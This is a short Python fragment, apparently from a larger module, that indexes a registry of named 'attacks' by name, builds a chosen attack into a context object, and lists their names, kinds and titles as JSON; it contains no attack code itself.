BY_NAME = {a.name: a for a in ATTACKS}


def build(attack, ctx):
    ctx.name = attack.name
    attack.build(ctx)


def describe():
    return json.dumps([{"name": a.name, "kind": a.kind, "title": a.title} for a in ATTACKS], indent=1)
